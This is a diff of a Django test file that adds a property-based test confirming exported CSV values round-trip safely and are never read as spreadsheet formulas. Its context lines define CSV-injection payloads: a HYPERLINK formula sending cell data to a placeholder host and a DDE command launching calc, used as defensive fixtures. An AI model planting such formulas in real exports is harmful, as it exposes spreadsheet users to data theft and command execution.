@@ -10,11 +10,12 @@ import contextlib
 import csv
 import io
 import json
+import tempfile
 from pathlib import Path
 
 import pytest
 from django.core.management import call_command
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 from openpyxl import Workbook as OpenpyxlWorkbook
 from openpyxl import load_workbook
@@ -24,6 +25,7 @@ from liudong.people.models import Person
 from liudong.people.tests.test_web import arrival_data
 from liudong.places import services as places
 from liudong.places.models import Employer, RentalHouse
+from liudong.tabular import Formula, read_table
 
 HYPERLINK = '=HYPERLINK("http://x/?d="&A2,"点击")'
 CALC = "=cmd|' /C calc'!A0"
@@ -52,6 +54,29 @@ def test_any_text_survives_the_csv_quote_and_never_starts_a_formula(text):
     written = safesheet.csv_text(text)
     assert safesheet.from_csv_text(written) == text
     assert not written.startswith(safesheet.FORMULA_STARTS)
+
+
+@given(
+    st.lists(
+        st.text(alphabet=st.sampled_from("'=+-@ ax0点,;\"\n"), min_size=1, max_size=6).filter(
+            lambda text: text == text.strip()
+        ),
+        min_size=3,
+        max_size=3,
+    )
+)
+@settings(max_examples=60, deadline=None)
+def test_what_the_csv_writer_writes_the_reader_reads_back(values):
+    """The whole path, property-tested: safesheet writes, tabular reads, nothing changes,
+    and nothing read is taken for a formula."""
+    columns = {"a": ("a",), "b": ("b",), "c": ("c",)}
+    with tempfile.TemporaryDirectory() as folder:
+        path = Path(folder) / "t.csv"
+        safesheet.write_table(path, ["a", "b", "c"], [values])
+        (_row, read), *more = list(read_table(path, columns))
+    assert not more
+    assert list(read.values()) == values
+    assert not [value for value in read.values() if isinstance(value, Formula)]
 
 
 @pytest.mark.parametrize("write_only", [True, False])
